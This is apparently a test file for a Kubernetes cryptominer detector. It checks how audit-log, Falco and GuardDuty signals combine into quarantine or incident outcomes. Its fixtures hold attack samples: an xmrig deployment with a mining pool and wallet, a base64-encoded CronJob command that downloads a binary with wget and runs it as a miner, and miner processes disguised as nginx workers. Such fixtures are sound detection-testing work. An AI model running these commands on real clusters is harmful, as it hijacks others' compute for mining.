import { auditExample, containerExample, deploying, workloadExample } from '../../lambdas/core/detectors/audit-example';
import { falcoExample } from '../../lambdas/core/detectors/falco-example';
import { apiFindingExample, findingExample } from '../../lambdas/core/detectors/guardduty-example';
import { outcomeOf } from '../support/scenario';
import { moneroAddress } from '../support/wallets';

const WALLET = moneroAddress('scenario');

test('ATT-01: a loud deployment is quarantined on the audit log alone', () => {
  const loud = deploying({
    image: 'docker.io/xx/xmrig:latest',
    args: ['-o', 'stratum+tcp://pool.example:3333', '-u', WALLET, '--donate-level=1'],
  });
  expect(outcomeOf({ audit: [loud] })).toMatchObject({
    state: 'quarantine',
    detectors: ['KM-A01', 'KM-A02', 'KM-A03', 'KM-A04'],
  });
});

test('ATT-05: a schedule whose command is encoded is quarantined when it is written', () => {
  const script = `wget -q http://198.51.100.7/a -O /tmp/a; chmod +x /tmp/a; /tmp/a -o pool.example:3333 -u ${WALLET} --donate-level 1`;
  const cronJob = auditExample({
    objectRef: { resource: 'cronjobs', subresource: '', apiGroup: 'batch', namespace: 'shop', name: 'tidy', uid: '' },
    workload: workloadExample(
      [containerExample({ command: ['sh', '-c', `echo ${btoa(script)} | base64 -d | sh`], args: [] })],
      {
        entity: { cluster: 'prod-a', kind: 'CronJob', namespace: 'shop', name: 'tidy', uid: 'uid-tidy' },
        schedule: '*/10 * * * *',
      },
    ),
  });
  const { state, detectors } = outcomeOf({ audit: [cronJob] });
  expect(state).toBe('quarantine');
  expect(detectors).toEqual(expect.arrayContaining(['KM-A01', 'KM-A02', 'KM-A03', 'KM-A06']));
});

test('a miner that was brought into a container is an incident from Falco alone', () => {
  const alert = falcoExample({
    'proc.exepath': '/tmp/nginx-worker',
    'proc.cmdline': 'nginx-worker --algo=rx/0 --url=pool.example:10128 --cpu-priority 5',
    'evt.arg.flags': 'EXE_WRITABLE|EXE_UPPER_LAYER',
  });
  expect(outcomeOf({ falco: [alert] })).toMatchObject({
    state: 'incident',
    detectors: expect.arrayContaining(['KM-F01', 'KM-F03']),
  });
});

test('names of images and programs alone are told to people and quarantine nothing', () => {
  const image = deploying({ image: 'docker.io/yenik65958/secret', args: [] });
  const program = falcoExample(
    { 'proc.exepath': '/usr/bin/xmrig', 'proc.name': 'xmrig', 'proc.cmdline': 'xmrig' },
    { rule: 'Known Cryptominer Process Executed' },
  );
  const { state, reasons } = outcomeOf({ audit: [image], falco: [program] });
  expect(state).toBe('incident');
  expect(reasons).toContain('all that is known are names of images and programs: approval needed');
});

describe('one execution that every product sees', () => {
  const executed = findingExample({ id: 'f-1', type: 'Impact:Runtime/CryptoMinerExecuted', sequenceId: 'sequence-1' });
  const newBinary = findingExample({ id: 'f-2', sequenceId: 'sequence-1' });
  const sequence = apiFindingExample({
    id: 'sequence-1',
    type: 'AttackSequence:EKS/CompromisedCluster',
    workload: undefined,
    sequenceId: 'sequence-1',
    members: [executed, newBinary],
  });
  const alert = falcoExample({ 'proc.cmdline': 'a --algo=rx/0 --url=pool.example:10128 --donate-level 1' });

  test('counts once on its channel, and a second product adds reliability alone', () => {
    const { contributions } = outcomeOf({ falco: [alert], guardduty: [executed] });
    const ofGuardDuty = contributions.filter(({ channel, detector }) => channel === 'EXEC' && /^KM-G/.test(detector));
    expect(ofGuardDuty).toMatchObject([{ detector: 'KM-G02', weight: 0.7 }]);
  });

  test('is not counted again because an attack sequence lists it', () => {
    const findings = outcomeOf({ guardduty: [executed, newBinary] });
    const listed = outcomeOf({ guardduty: [executed, newBinary, sequence] });
    expect(listed.probability).toBe(findings.probability);
    expect(outcomeOf({ guardduty: [sequence] }).probability).toBe(findings.probability);
    expect(findings.contributions.map(({ detector }) => detector)).toEqual(['KM-G09', 'KM-G02', 'KM-G05']);
  });
});
